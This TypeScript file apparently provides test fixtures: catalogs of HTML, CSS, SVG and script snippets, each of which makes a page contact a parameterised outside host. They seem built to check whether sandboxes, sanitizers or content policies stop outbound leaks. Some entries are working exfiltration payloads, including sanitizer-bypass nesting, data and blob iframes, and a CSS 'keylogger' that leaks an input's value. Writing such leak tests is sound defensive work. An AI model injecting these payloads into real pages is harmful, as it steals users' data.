import { type Channels, dataPage, js, literal, plain, quoted } from './fragment'
import type { Outside } from './naming'

const img = (to: Outside) => `<img src="${to.http('x.png')}">`
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

export const media: Channels = plain({
  img,
  img_srcset: (to) => `<img srcset="${to.http('x.png')} 1x, ${to.http('y.png')} 2x">`,
  picture: (to) => `<picture><source srcset="${to.http('x.webp')}"><img></picture>`,
  input_image: (to) => `<input type="image" src="${to.http('x.png')}">`,
  video: (to) => `<video src="${to.http('x.mp4')}" autoplay muted></video>`,
  video_poster: (to) => `<video poster="${to.http('x.png')}"></video>`,
  audio: (to) => `<audio src="${to.http('x.mp3')}" preload="auto" autoplay muted></audio>`,
  track: (to) =>
    `<video crossorigin src="data:video/mp4,x"><track default kind="captions" src="${to.http('x.vtt')}"></video>${js("for(const t of document.querySelectorAll('track'))t.track.mode='showing'")}`,
  image_in_detached: (to) => js(`document.createElement('div').innerHTML=${literal(img(to))}`),
  domparser: (to) =>
    js(
      `const d=new DOMParser().parseFromString(${literal(img(to))},'text/html');document.body.append(d.body.firstChild)`,
    ),
  new_doc_dom: (to) =>
    js(`const d=document.implementation.createHTMLDocument();d.body.innerHTML=${literal(img(to))}
      document.body.append(document.importNode(d.body,true))`),
  docopen_img: (to) =>
    js(`const f=document.createElement('iframe');document.body.append(f)
      f.contentDocument.open();f.contentDocument.write(${literal(img(to))});f.contentDocument.close()`),
  x_svgimg_data: (to) =>
    `<img src="data:image/svg+xml,${encodeURIComponent(`<svg ${SVG}><image href="${to.http('x.png')}" width="9" height="9"/></svg>`)}">`,
  x_body_bg: (to) =>
    `<table background="${to.http('x.png')}"><tr><td background="${to.http('y.png')}">x</table>`,
})

const box = (style: string, text = 'x') => `<div style="width:9px;height:9px;${style}">${text}</div>`
const rule = (css: (to: Outside) => string) => (to: Outside) => `<style>${css(to)}</style>`

export const style: Channels = plain({
  link_css: (to) => `<link rel="stylesheet" href="${to.http('x.css')}">`,
  style_import: rule((to) => `@import "${to.http('x.css')}";`),
  style_bg: (to) => `<style>#bg{background:url(${to.http('x.png')})}</style><p id="bg">x</p>`,
  style_imageset: (to) =>
    `<style>#is{background-image:image-set(url("${to.http('x.png')}") 1x)}</style><p id="is">x</p>`,
  style_cursor: (to) =>
    `<style>#cu{cursor:url(${to.http('x.png')}),auto}</style><p id="cu" class="hover">x</p>`,
  style_content: (to) => `<style>#co::before{content:url(${to.http('x.png')})}</style><p id="co">x</p>`,
  style_mask: (to) => `<style>#ma{mask-image:url(${to.http('x.png')})}</style><p id="ma">x</p>`,
  style_filter: (to) => `<style>#fi{filter:url(${to.http('x.svg')}#f)}</style><p id="fi">x</p>`,
  style_font: (to) =>
    `<style>@font-face{font-family:out;src:url(${to.http('x.woff2')})}#fo{font-family:out}</style><p id="fo">x</p>`,
  style_data_import: (to) =>
    `<link rel="stylesheet" href="data:text/css,@import%20%22${to.http('x.css')}%22;">`,
  style_attr: (to) => box(`background:url(${to.http('x.png')})`),
  css_keylogger: (to) =>
    `<style>input[value^="s"]{background:url(${to.http('s')})}</style><input type="text" value="secret">`,
  x_css_misc: (to) => {
    const url = `url(${to.http('x.png')})`
    return `<ul><li style="list-style-image:${url}">x</ul>${box(`border:3px solid;border-image:${url} 3`)}${box(`float:left;shape-outside:${url}`)}`
  },
  x_css_misc2: (to) => {
    const url = `url(${to.http('x.svg')}#c)`
    return `${box(`clip-path:${url}`)}${box(`backdrop-filter:${url}`)}${box(`offset-path:${url}`)}${box(`background:src("${to.http('x.png')}")`)}`
  },
})

export const svg: Channels = plain({
  svg_image: (to) => `<svg><image href="${to.http('x.png')}" width="9" height="9"/></svg>`,
  svg_use: (to) => `<svg><use href="${to.http('x.svg')}#x"/></svg>`,
  svg_feimage: (to) =>
    `<svg><filter id="fe"><feImage href="${to.http('x.png')}"/></filter><rect width="9" height="9" filter="url(#fe)"/></svg>`,
  svg_script: (to) => `<svg><script href="${to.http('x.js')}"></script></svg>`,
  x_smil_image: (to) =>
    `<svg><image width="9" height="9"><set attributeName="href" to="${to.http('x.png')}" begin="0s"/></image></svg>`,
  mathml_xlink: (to) =>
    `<math><mi mathbackground="url(${to.http('x.png')})" style="background:url(${to.http('y.png')})" xlink:href="${to.http()}">x</mi></math>`,
  sanitizer_nested_template: (to) =>
    `<template><template>${img(to)}</template></template>${js(
      "for(const t of document.querySelectorAll('template'))for(const u of t.content.querySelectorAll('template'))document.body.append(u.content.cloneNode(true))",
    )}`,
  shadow_decl: (to) => `<div><template shadowrootmode="open">${img(to)}</template></div>`,
})

const inside = (to: Outside) => `${img(to)}<p>x`

export const frames: Channels = plain({
  iframe_src: (to) => `<iframe src="${to.https()}"></iframe>`,
  object: (to) => `<object data="${to.http('x.html')}"></object>`,
  embed: (to) => `<embed src="${to.http('x.html')}">`,
  fencedframe: (to) =>
    `<fencedframe></fencedframe>${js(`document.querySelector('fencedframe').config=new FencedFrameConfig('${to.https()}')`)}`,
  frame_nested_srcdoc: (to) => `<iframe srcdoc="${quoted(inside(to))}"></iframe>`,
  frame_nested_data: (to) => `<iframe src="${dataPage(inside(to))}"></iframe>`,
  frame_nested_blob: (to) =>
    js(
      `const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([${literal(inside(to))}],{type:'text/html'}));document.body.append(f)`,
    ),
  object_data_html: (to) => `<object data="${dataPage(inside(to))}"></object>`,
}).concat(
  plain(
    { x_frameset: (to) => `<frameset cols="*"><frame src="${to.http('x.html')}"></frameset>` },
    { alone: true, whole: true },
  ),
)
